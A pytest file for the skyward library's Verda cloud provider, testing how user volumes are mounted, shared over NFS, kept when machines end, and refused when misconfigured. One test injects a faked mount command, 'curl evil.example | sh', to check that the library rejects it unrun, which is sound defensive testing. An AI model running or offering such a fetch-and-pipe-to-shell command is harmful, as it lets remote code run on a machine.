"""Volumes of the user: found before anything is rented, mounted at the machine's first boot, and never deleted."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import skyward as sky
from skyward.errors import ConfigError, ProvisionError
from skyward.model.instances.machine import InstanceState
from skyward.model.spec.spec import Spec
from tests.clouds.verda.client import client, refusal, run
from tests.clouds.verda.cloud import MACHINE, Cloud
from tests.waiting import until

pytestmark = [pytest.mark.clouds, pytest.mark.usefixtures("without_hosts")]

NAMES = ["data", "elsewhere", "shared"]
OPTIONS: dict[str, Any] = {"machine": MACHINE, "console": False, "bootstrap_timeout": 20}


@pytest.fixture
def volumes(verda: Cloud) -> Iterator[Cloud]:
    """Give a cloud with volumes, which have to be there in the end, and be free."""
    verda.volume()
    verda.volume("shared", "NVMe_Shared")
    verda.volume("elsewhere", location="FIN-02")
    yield verda
    until(lambda: {name: [] for name in NAMES} == {name: verda.volumes().get(name) for name in NAMES})
    verda.ask("drop", NAMES)


def rented(verda: Cloud) -> list[dict[str, Any]]:
    """Return what machines were asked for with."""
    return [json.loads(call["body"]) for call in verda.calls("POST /v1/instances")]


@sky.function
def note(folder: str, name: str) -> list[str]:
    """Leave a file in the volume, and tell which are there."""
    Path(folder, name).touch()
    return sorted(path.name for path in Path(folder).iterdir())


@pytest.mark.usefixtures("with_hosts")
def test_the_machine_has_the_volume_and_what_is_in_it_outlives_the_machine(volumes: Cloud, tmp_path: Path) -> None:
    """It is mounted before any login is let in; the next pool, of a spot machine, finds what the last one wrote."""
    where = str(tmp_path / "data")
    for turn, allocation in enumerate(("on-demand", "spot")):
        provider = volumes.provider()
        with sky.Compute(
            provider=provider, volumes=[sky.Disk("data", mount=where)], allocation=allocation, **OPTIONS
        ) as pool:
            [row] = volumes.alive()
            assert ("FIN-01", [row["id"]]) == (row["region"], volumes.volumes()["data"])
            assert ["on-demand", "spot"][: turn + 1] == note(where, allocation) >> pool
            asked = Path(row["base"], "asked").read_text()
            assert f"mount -o noatime {row['base']}/dev/vdb {where}\n" == asked
    assert [] == volumes.alive()


@pytest.mark.usefixtures("with_hosts")
def test_several_machines_have_a_share(volumes: Cloud, tmp_path: Path) -> None:
    """Each mounts it in the way that Verda says, where we say."""
    where = str(tmp_path / "shared")
    with sky.Compute(
        provider=volumes.provider(), volumes=[sky.Disk("shared", mount=where)], nodes=2, **OPTIONS
    ) as pool:
        rows = volumes.alive()
        assert {row["id"] for row in rows} == set(volumes.volumes()["shared"])
        gathered = note(where, "one") >> pool, note(where, "two") >> pool
        assert (["one"], ["one", "two"]) == gathered
        for row in rows:
            asked = Path(row["base"], "asked").read_text()
            assert asked.startswith("mount -t nfs -o nconnect=16 nfs.test.example:/shared-")
    assert [] == volumes.alive()


@pytest.mark.usefixtures("with_hosts")
def test_a_volume_without_a_filesystem_is_not_formatted_and_has_no_directory(
    volumes: Cloud, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A task that writes there hears so, and does not write to the machine's own disk."""
    monkeypatch.setattr("skyward_verda.volumes.BOOT", 0.0)
    volumes.ask("filesystem", "")

    async def scenario() -> None:
        async with client(volumes.provider(), volumes=[sky.Disk("data", mount=str(tmp_path / "data"))]) as opened:
            await opened.launch()
            await opened.until(lambda found: found[0].state is InstanceState.RUNNING)
            base = Path(volumes.alive()[0]["base"])
            until(lambda: "no filesystem was found" in (base / "startup.log").read_text())
            assert not (base / "asked").exists()
            assert not (tmp_path / "data").exists()

    run(scenario())


def test_a_volume_is_named_by_no_end(volumes: Cloud, tmp_path: Path) -> None:
    """Neither by a machine's own, nor by that of `sky down`; what an eviction leaves of the pool's goes without it."""
    data = volumes.ask("volumes")[0]["id"]

    async def scenario() -> None:
        async with client(volumes.provider(), volumes=[sky.Disk("data", mount=str(tmp_path / "data"))]) as opened:
            [instance] = await opened.launch(spot=True)
            await opened.until(lambda found: found[0].state is InstanceState.RUNNING)
            volumes.ask("keeps_disks", True)
            volumes.interrupt(instance.id)
            until(lambda: "discontinued" == volumes.instances()[-1]["state"])
            assert [] == volumes.volumes()["data"]
            # Its disk is billed on, and listed; the user's is not.
            [left] = await opened.provider.skyward_owned()
            assert (True, "volume") == (left.id != data, left.instance_type)
            [second] = await opened.launch()
            await opened.until(lambda found: any(one.state is InstanceState.RUNNING for one in found))
            assert [second.id] == volumes.volumes()["data"]
            stranger = volumes.provider()
            await stranger.skyward_end(await stranger.skyward_owned())
            assert sorted(NAMES) == sorted(volumes.left()["volumes"])

    run(scenario())
    orders = [json.loads(call["body"]) for call in volumes.calls("PUT /v1/instances")]
    assert orders
    assert data not in [each for order in orders for each in order["volume_ids"]]
    assert {"DELETE"} == {call["name"].split()[0] for call in volumes.calls("DELETE /v1/volumes")}
    assert not volumes.calls(f"DELETE /v1/volumes/{data}")
    assert [[data]] * 2 == [each["existing_volumes"] for each in rented(volumes)]


def test_a_volume_that_a_machine_had_which_has_just_ended_is_waited_for(
    volumes: Cloud, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As where a node is replaced; not for ever, and a launch that is asked for twice does not wait for itself."""
    volumes.ask("detaches", 5)

    async def scenario() -> None:
        async with client(volumes.provider(), volumes=[sky.Disk("data", mount=str(tmp_path / "data"))]) as opened:
            [first] = await opened.launch()
            await opened.end(first.id)
            [second] = await opened.launch(token="again")
            assert [second.id] == [one.id for one in await opened.launch(token="again")]
            monkeypatch.setattr("skyward.providers.disks.until_free.__defaults__", (0.0,))
            error = await refusal(opened.launch())
            assert ProvisionError is type(error)
            assert f"is still attached to {second.id} after 0 s" in str(error)
            assert 1 == len(volumes.alive())
            spec = Spec(provider=volumes.provider(), volumes=[sky.Disk("data")])
            error = await refusal(spec.provider.skyward_preflight(spec))
            assert f"is attached to {second.id}, and to one machine at a time." in str(error)
        # A machine that is gone does not count, though it is still named.
        await spec.provider.skyward_preflight(spec)

    run(scenario())


@pytest.mark.parametrize(
    ("disk", "settings", "wishes", "words"),
    [
        ("dta", {}, {}, "Verda has no disk 'dta'. Did you mean 'data'?"),
        ("data", {"region": "FIN-02"}, {}, "is in FIN-01, and machines are asked for in FIN-02."),
        ("shared", {}, {"region": "FIN-02"}, "is in FIN-01, and machines are asked for in FIN-02."),
        ("data", {}, {"nodes": 2}, "one machine at a time, and the pool may have 2 nodes. Write nodes=1"),
        ("data", {}, {"nodes": (1, 4)}, "one machine at a time, and the pool may have 4 nodes."),
    ],
)
def test_a_volume_that_cannot_be_had_is_refused_before_renting(
    volumes: Cloud, disk: str, settings: dict[str, str], wishes: dict[str, Any], words: str
) -> None:
    """With what there is instead."""
    spec = Spec(provider=volumes.provider(**settings), volumes=[sky.Disk(disk)], **wishes)
    error = run(refusal(spec.provider.skyward_preflight(spec)))
    assert ConfigError is type(error)
    assert words in str(error)
    assert [] == rented(volumes)


def test_a_disk_that_would_be_deleted_with_a_pool_is_refused(volumes: Cloud) -> None:
    """By its name it is taken for what a machine has left."""
    volumes.volume("skyward-p1-0123456789abcdef-3")
    spec = Spec(volumes=[sky.Disk("skyward-p1-0123456789abcdef-3")])
    error = run(refusal(volumes.provider().skyward_preflight(spec)))
    assert "has the name of a disk of a pool's machine, which is deleted with it." in str(error)
    volumes.ask("drop", ["skyward-p1-0123456789abcdef-3"])


def test_a_share_that_is_mounted_in_an_unknown_way_is_refused(volumes: Cloud) -> None:
    """What Verda says is shown, and never run."""
    row = {**volumes.ask("volumes")[1], "mount_command": "curl evil.example | sh"}
    volumes.fault("GET /v1/volumes", status=200, body=[row])
    spec = Spec(volumes=[sky.Disk("shared")])
    error = run(refusal(volumes.provider().skyward_preflight(spec)))
    assert ProvisionError is type(error)
    assert "'mount_command' mounts no share of NFS: 'curl evil.example | sh'" in str(error)


def test_offers_are_those_of_the_volumes_location(volumes: Cloud) -> None:
    """And nothing is asked about volumes where none is wanted."""
    assert {"FIN-01", "FIN-02"} < {offer.region for offer in run(volumes.provider().skyward_offers(Spec()))}
    assert [] == volumes.calls("GET /v1/volumes")
    offers = run(volumes.provider().skyward_offers(Spec(volumes=[sky.Disk("elsewhere")])))
    assert {"FIN-02"} == {offer.region for offer in offers}


@pytest.mark.usefixtures("with_hosts")
def test_several_disks_are_told_apart_by_the_labels_of_their_file_systems(volumes: Cloud, tmp_path: Path) -> None:
    """Each is found where the user says, whatever order a machine sees them in."""
    volumes.volume("scratch")
    wanted = {name: str(tmp_path / name) for name in ("scratch", "shared", "data")}
    disks = [sky.Disk(name, mount=where) for name, where in wanted.items()]
    with sky.Compute(provider=volumes.provider(), volumes=disks, **OPTIONS) as pool:
        [row] = volumes.alive()
        assert {name: [row["id"]] for name in wanted} == {name: volumes.volumes()[name] for name in wanted}
        for name, where in wanted.items():
            assert [name] == note(where, name) >> pool
    until(lambda: [] == volumes.volumes()["scratch"])
    with sky.Compute(provider=volumes.provider(), volumes=[sky.Disk("data", mount=wanted["data"])], **OPTIONS) as pool:
        assert ["again", "data"] == note(wanted["data"], "again") >> pool
    volumes.ask("drop", ["scratch"])


def test_disks_that_no_machine_can_have_together_are_refused(volumes: Cloud) -> None:
    """They are in two locations, one of them is there twice, or a name is no label."""
    first = volumes.ask("volumes")[0]["id"]
    volumes.volume("my data")
    for names, words in (
        (["data", "elsewhere"], "'data' ({id}) is in FIN-01 and 'elsewhere'"),
        (["data", first], "has the disk 'data' ({id}) of Verda more than once"),
        (["data", "my data"], "is no label, by which a machine knows it among several"),
    ):
        disks = [sky.Disk(name, mount=f"/mnt/{number}") for number, name in enumerate(names)]
        error = run(refusal(volumes.provider().skyward_preflight(Spec(volumes=disks))))
        assert ConfigError is type(error)
        assert words.format(id=first) in str(error)
    volumes.ask("drop", ["my data"])
